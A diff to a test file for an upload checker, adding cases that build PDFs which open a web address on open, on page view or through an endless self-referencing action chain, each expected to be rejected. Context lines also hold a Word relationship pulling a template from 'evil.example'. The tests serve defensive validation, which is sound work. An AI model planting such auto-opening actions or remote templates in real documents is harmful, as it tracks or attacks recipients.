@@ -1,4 +1,4 @@
-import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
+import { PDFDocument, PDFName, type PDFObject, PDFString } from '@cantoo/pdf-lib';
 import { claimedType } from '@diwan/service-kit/files/file-name';
 import { inspectFile } from '@diwan/service-kit/files/inspect-file';
 import { describe, expect, it } from '@jest/globals';
@@ -46,6 +46,7 @@ describe('the check of an uploaded file', () => {
     const bytes = await pdfWith((pdf) => {
       const page = pdf.getPage(0);
       pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj([page.ref, 'Fit']));
+      page.node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'Named', N: 'FirstPage' } }));
       const link = {
         Type: 'Annot',
         Subtype: 'Link',
@@ -144,6 +145,44 @@ describe('the check of an uploaded file', () => {
       () => opening({ S: 'SubmitForm', F: PDFString.of('https://a.example') }),
       /scripts/,
     ],
+    ['S-7: a PDF that opens an address', 'x.pdf', () => opening({ S: 'URI', URI: ADDRESS }), /scripts/],
+    [
+      'S-7: a PDF that opens an address after turning to a page',
+      'x.pdf',
+      () =>
+        pdfWith((pdf) =>
+          openingAfter(pdf, pdf.context.obj({ S: 'GoTo', D: [0, 'Fit'], Next: [{ S: 'URI', URI: ADDRESS }] })),
+        ),
+      /scripts/,
+    ],
+    [
+      'S-7: a PDF that opens an address by a reference, in an order that has no end',
+      'x.pdf',
+      () => pdfWith((pdf) => openingAfter(pdf, endless(pdf))),
+      /scripts/,
+    ],
+    [
+      'S-7: a page that opens an address when it is seen',
+      'x.pdf',
+      () =>
+        pdfWith((pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'URI', URI: ADDRESS } }))),
+      /scripts/,
+    ],
+    [
+      'S-7: a field that opens an address when a page is seen',
+      'x.pdf',
+      () =>
+        pdfWith((pdf) => {
+          const field = {
+            Type: 'Annot',
+            Subtype: 'Widget',
+            Rect: [0, 0, 9, 9],
+            AA: { PV: { S: 'URI', URI: ADDRESS } },
+          };
+          pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([field]));
+        }),
+      /scripts/,
+    ],
     ['a PDF with a file inside', 'x.pdf', () => pdfWith((pdf) => pdf.attach(Buffer.from('a'), 'a.exe')), /scripts/],
     [
       'a PDF with an XFA form',
@@ -178,6 +217,18 @@ describe('the check of an uploaded file', () => {
     });
   });
 });
+
+const ADDRESS = PDFString.of('https://a.example');
+
+const openingAfter = (pdf: PDFDocument, action: PDFObject) =>
+  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
+
+/** An action that is followed by itself. */
+function endless(pdf: PDFDocument): PDFObject {
+  const action = pdf.context.obj({ S: 'GoTo', D: [0, 'Fit'] });
+  action.set(PDFName.of('Next'), pdf.context.register(action));
+  return action;
+}
 
 const TEMPLATE =
   '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
